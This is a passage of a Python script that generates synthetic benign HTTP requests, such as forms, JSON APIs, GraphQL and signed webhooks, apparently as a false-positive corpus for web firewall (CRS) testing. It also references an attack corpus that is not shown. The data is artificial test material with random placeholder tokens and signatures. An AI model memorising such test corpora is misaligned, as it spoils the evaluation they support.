                      "wishlist=" + g.b64url(json.dumps(wishlist).encode()),
                      f"cf_clearance={g.b64url(rng.randbytes(30))}-{ts}-0-1-{rng.randbytes(4).hex()}",
                      f"__Host-session={g.b64url(rng.randbytes(96))}"])


def hook_headers(ua, extra):
    return [["Host", g.HOST], ["User-Agent", ua], ["Accept", "*/*"]] + extra


# ---------------------------------------------------------------- builders
#
# One per kind: (rng, written text) -> request.

def search(rng, q):
    sort = rng.choice(["", "&sort=relevance", "&page=2", "&category=all"])
    return g.request("GET", "/search?q=" + urllib.parse.quote_plus(q) + sort, g.browser_headers(rng))


def contact_form(rng, text):
    return g.post_form("/contact", g.browser_headers(rng), [
        ("name", rng.pick(NAMES)), ("email", rng.pick(EMAILS)),
        ("subject", rng.choice(["Order question", "Billing", "Feedback", "Other"])), ("message", text), ("consent", "on")])


def contact_i18n(rng, entry):
    lang, text = entry
    return g.post_form(f"/{lang}/contact", g.browser_headers(rng), [
        ("name", rng.pick(NAMES)), ("email", rng.pick(EMAILS)), ("message", text), ("lang", lang)])


def review_json(rng, entry):
    rating, title, text = entry
    product = rng.randint(1000, 9999)
    doc = {"product_id": product, "rating": rating, "title": title, "body": text,
           "author": {"display_name": rng.pick(NAMES), "verified_buyer": rng.random() < 0.8},
           "photos": [], "submitted_at": iso(rng)}
    return g.post_json(f"/api/v1/products/{product}/reviews", g.browser_headers(rng), doc)


def address_form(rng, entry):
    name, street, city, country, note = entry
    return g.post_form("/checkout/address", g.browser_headers(rng), [
        ("full_name", name), ("address1", street), ("city", city), ("country", country),
        ("delivery_notes", note), ("email", rng.pick(EMAILS)), ("save_address", "1")])


def order_item(rng, currency):
    price = f"{rng.randint(5, 240)}.{rng.choice(['00', '49', '99'])}"
    return {"sku": f"{rng.choice(['HOM', 'KIT', 'APP', 'TEC'])}-{rng.randint(1000, 9999)}", "name": rng.pick(PRODUCTS),
            "qty": rng.randint(1, 3), "unit_price": {"amount": price, "currency": currency},
            "image_url": f"https://cdn.{g.HOST}/p/{rng.randbytes(6).hex()}.webp", "gift_wrap": rng.random() < 0.3}


def order_json(rng, note):
    currency = rng.choice(["GBP", "EUR", "USD"])
    items = [order_item(rng, currency) for _ in range(rng.randint(1, 3))]
    doc = {"order_id": g.uuid4(rng), "created_at": iso(rng),
           "customer": {"id": rng.randint(10**5, 10**6), "email": rng.pick(EMAILS), "guest": rng.random() < 0.3},
           "items": items,
           "shipping": {"method": rng.choice(["standard", "express", "click_and_collect"]),
                        "requested_date": rng.choice([None, iso(rng)[:10]]), "tracking_url": None},
           "discount_codes": rng.choice([[], ["SPRING15"], ["FREESHIP", "LOYAL5"]]), "gift_message": note,
           "metadata": {"channel": rng.choice(["web", "ios", "android"]),
                        "referrer": "https://www.example-blog.net/gift-guide-2026", "ab": {"checkout": "B"}}}
    return g.post_json("/api/v1/orders", g.browser_headers(rng) + g.api_headers(rng), doc)


def settings_json(rng, bio):
    doc = {"profile": {"display_name": rng.pick(NAMES), "bio": bio, "pronouns": None,
                       "avatar_url": f"https://cdn.{g.HOST}/avatars/{g.uuid4(rng)}.png"},
           "notifications": {"email": {"orders": True, "marketing": rng.random() < 0.3,
                                       "digest": rng.choice(["daily", "weekly", "never"])},
                             "push": {"enabled": rng.random() < 0.5, "quiet_hours": {"from": "22:00", "to": "07:30"}}},
           "locale": rng.choice(["en-GB", "de-DE", "pt-PT", "sv-SE"]), "timezone": "Europe/London",
           "privacy": {"show_activity": False, "blocked_users": []}, "updated_at": iso(rng)}
    # POST, as in generate.py: CRS refuses PUT and PATCH by policy, not detection.
    return g.post_json("/api/v1/me/settings", g.browser_headers(rng), doc)


def markdown_json(rng, md):
    thread = rng.randint(100, 9999)
    doc = {"thread_id": thread, "parent_id": rng.choice([None, rng.randint(10**4, 10**5)]), "body": md,
           "format": "markdown", "notify_subscribers": True}
    return g.post_json(f"/api/v1/threads/{thread}/comments", g.browser_headers(rng), doc)


def chat_json(rng, text):
    doc = {"channel_id": "C0" + rng.randbytes(4).hex().upper(), "text": text, "client_msg_id": g.uuid4(rng),
           "thread_ts": rng.choice([None, f"{1767600000 + rng.randint(0, 10**7)}.{rng.randint(10**5, 10**6)}"]),
           "mentions": []}
    return g.post_json("/api/chat/messages", g.browser_headers(rng) + g.api_headers(rng), doc)


def cms_html(rng, entry):
    title, html = entry
    doc = {"title": title, "slug": title.lower().replace(" ", "-"), "body_html": html,
           "status": rng.choice(["draft", "published"]), "tags": rng.sample(["news", "store", "guides", "food"], 2),
           "publish_at": iso(rng), "featured_image": None}
    return g.post_json("/admin/api/posts", g.browser_headers(rng), doc)


def forum_prose(rng, entry):
    tag, title, text = entry
    return g.post_form("/forum/posts", g.browser_headers(rng), [("title", title), ("body", text), ("tags", tag)])


def code_snippet(rng, entry):
    lang, code = entry
    if rng.random() < 0.5:
        return g.post_form("/forum/snippets", g.browser_headers(rng),
                         [("title", f"{lang} snippet"), ("language", lang), ("code", code)])
    doc = {"description": f"{lang} snippet", "files": {SNIPPET_FILES[lang]: {"content": code}},
           "public": rng.random() < 0.5}
    return g.post_json("/api/v1/gists", g.browser_headers(rng) + g.api_headers(rng), doc)


def jwt_api(rng, path):
    h = [x for x in g.browser_headers(rng, accept="application/json") if x[0] != "Authorization"]
    return g.request("GET", path, h + [["Authorization", "Bearer " + g.jwt(rng)]] + g.api_headers(rng))


def cookie_page(rng, path):
    h = [x for x in g.browser_headers(rng) if x[0] != "Cookie"]
    return g.request("GET", path, h + [["Cookie", long_cookie(rng)]])


def graphql(rng, entry):
    return g.graphql_request(rng, *entry)


def stripe(rng):
    doc = {"id": "evt_" + g.b64url(rng.randbytes(18)), "object": "event", "type": "payment_intent.succeeded",
           "created": 1767600000 + rng.randint(0, 10**7), "livemode": False,
           "data": {"object": {"id": "pi_" + g.b64url(rng.randbytes(18)), "amount": rng.randint(500, 50000),
                               "currency": "eur", "metadata": {"order_id": g.uuid4(rng)},
                               "receipt_email": rng.pick(EMAILS)}}}
    sig = f"t={doc['created']},v1={rng.randbytes(32).hex()}"
    ua = "Stripe/1.0 (+https://stripe.com/docs/webhooks)"
    return "/webhooks/stripe", hook_headers(ua, [["Stripe-Signature", sig]]), doc


def github(rng):
    before, after = rng.randbytes(20).hex(), rng.randbytes(20).hex()
    doc = {"ref": "refs/heads/main", "before": before, "after": after,
           "repository": {"full_name": "acme/storefront", "html_url": "https://github.com/acme/storefront"},
           "pusher": {"name": "mlopez"},
           "head_commit": {"message": "Fix: drop stale sessions before select\n\nCloses #311", "timestamp": iso(rng),
                           "url": f"https://github.com/acme/storefront/commit/{after}"}}
    extra = [["X-GitHub-Event", "push"], ["X-GitHub-Delivery", g.uuid4(rng)],
             ["X-Hub-Signature-256", "sha256=" + rng.randbytes(32).hex()]]
    return "/webhooks/github", hook_headers("GitHub-Hookshot/7e3f2a1", extra), doc


def shopify(rng):
    doc = {"id": rng.randint(10**12, 10**13), "email": rng.pick(EMAILS), "created_at": iso(rng),
           "line_items": [{"title": rng.pick(PRODUCTS), "quantity": rng.randint(1, 2), "price": "24.00"}],
           "note": None, "tags": "wholesale, vip", "test": False}
    extra = [["X-Shopify-Topic", "orders/create"], ["X-Shopify-Shop-Domain", "acme-store.example"],
             ["X-Shopify-Hmac-Sha256", b64encode(rng.randbytes(32)).decode()]]
    return "/webhooks/shopify", hook_headers("Shopify-Captain-Hook", extra), doc


def slack(rng):
    def slack_id(prefix):
        return prefix + "0" + rng.randbytes(4).hex().upper()

    doc = {"token": g.b64url(rng.randbytes(18)), "team_id": slack_id("T"), "type": "event_callback",
           "event": {"type": "message", "channel": slack_id("C"), "user": slack_id("U"),
                     "text": "deploy finished :white_check_mark: <https://ci.example.com/b/8812|build 8812>",
                     "ts": f"{1767600000 + rng.randint(0, 10**7)}.000{rng.randint(100, 999)}"}}
    extra = [["X-Slack-Signature", "v0=" + rng.randbytes(32).hex()],
             ["X-Slack-Request-Timestamp", str(1767600000 + rng.randint(0, 10**7))]]
    return "/webhooks/slack", hook_headers("Slackbot 1.0 (+https://api.slack.com/robots)", extra), doc


def twilio(rng):
    fields = [("MessageSid", "SM" + rng.randbytes(16).hex()), ("MessageStatus", "delivered"),
              ("To", "+447700900" + str(rng.randint(100, 999))), ("From", "+14155550123"), ("ApiVersion", "2010-04-01")]
    extra = [["X-Twilio-Signature", b64encode(rng.randbytes(20)).decode()]]
    return "/webhooks/sms-status", hook_headers("TwilioProxy/1.1", extra), fields


def mailgun(rng):
    doc = {"signature": {"timestamp": str(1767600000 + rng.randint(0, 10**7)), "token": rng.randbytes(25).hex(),
                         "signature": rng.randbytes(32).hex()},
           "event-data": {"event": "delivered", "recipient": rng.pick(EMAILS),
                          "message": {"headers": {"subject": "Your order #4412 has shipped!",
                                                  "from": "Shop <noreply@shop.example>"}}}}
    return "/webhooks/mail-events", hook_headers("mailgun/treq-2021.1.0", []), doc


def pagerduty(rng):
    doc = {"event": {"id": g.uuid4(rng), "event_type": "incident.triggered", "occurred_at": iso(rng),
                     "data": {"title": "High error rate on /api/v1/checkout (5xx > 2%)", "urgency": "high",
                              "html_url": f"https://acme.pagerduty.example/incidents/{rng.randbytes(7).hex().upper()}"}}}
    extra = [["X-PagerDuty-Signature", "v1=" + rng.randbytes(32).hex()]]
    return "/webhooks/incidents", hook_headers("PagerDuty-Webhook/V3.0", extra), doc


def typeform(rng):
    doc = {"event_type": "form_response",
           "form_response": {"form_id": g.b64url(rng.randbytes(6)), "submitted_at": iso(rng),
                             "answers": [{"type": "text", "text": "We'd love a drop-in session on Thursdays"},
                                         {"type": "choice", "choice": {"label": "Select plan"}},
                                         {"type": "boolean", "boolean": True}]}}
    extra = [["Typeform-Signature", "sha256=" + b64encode(rng.randbytes(32)).decode()]]
    return "/webhooks/forms", hook_headers("Typeform Webhooks", extra), doc


WEBHOOKS = [stripe, github, shopify, slack, twilio, mailgun, pagerduty, typeform]


def webhook(rng, make):
    path, h, payload = make(rng)
    if isinstance(payload, list):
        return g.post_form(path, h, payload)
    return g.post_json(path, h, payload)


def data_url(rng, caption):
    url = "data:image/png;base64," + b64encode(png(rng)).decode()
    if rng.random() < 0.5:
        return g.post_json("/api/v1/profile/avatar", g.browser_headers(rng), {"image": url, "caption": caption})
    return g.post_form("/orders/sign", g.browser_headers(rng),
                     [("signature", url), ("caption", caption), ("order", str(rng.randint(10**5, 10**6)))])


def file_api(rng, name):
    if rng.random() < 0.5:
        uri = f"/api/v1/files/{g.uuid4(rng)}/download?filename={urllib.parse.quote(name)}&disposition=attachment"
        return g.request("GET", uri, g.browser_headers(rng) + g.api_headers(rng))
    doc = {"filename": name, "size": rng.randint(10**3, 10**7),
           "content_type": CONTENT_TYPES[name.rsplit(".", 1)[1]],
           "sha256": hashlib.sha256(rng.randbytes(16)).hexdigest(), "folder_id": g.uuid4(rng), "uploaded_at": iso(rng)}
    return g.post_json("/api/v1/files", g.browser_headers(rng) + g.api_headers(rng), doc)


# (kind, builder, the texts it is built from): one request per text.
KINDS = [
    ("search", search, SEARCHES), ("contact_form", contact_form, CONTACT), ("contact_i18n", contact_i18n, CONTACT_I18N),
    ("review_json", review_json, REVIEWS), ("address_form", address_form, ADDRESSES),
    ("order_json", order_json, ORDER_NOTES), ("settings_json", settings_json, BIOS),
    ("markdown_json", markdown_json, MARKDOWN), ("chat_json", chat_json, CHAT),
    ("cms_html", cms_html, CMS_POSTS), ("forum_prose", forum_prose, FORUM), ("code_snippet", code_snippet, SNIPPETS),
    ("jwt_api", jwt_api, API_PATHS), ("cookie_page", cookie_page, PAGES), ("graphql", graphql, GRAPHQL),
    ("webhook", webhook, WEBHOOKS), ("data_url", data_url, CAPTIONS), ("file_api", file_api, FILE_NAMES),
]


def attacks():
    return g.placed_attacks("third-", ATTACKS, PLACEMENTS, ENCODINGS)


def benign():
    rng = g.Source(SEED)
    out = g.built_benign("third-", KINDS, rng, first=0)
    g.require_all_used(rng, "names, e-mails or products", NAMES, EMAILS, PRODUCTS)
    return out


if __name__ == "__main__":
    g.corpus_main(attacks, benign)
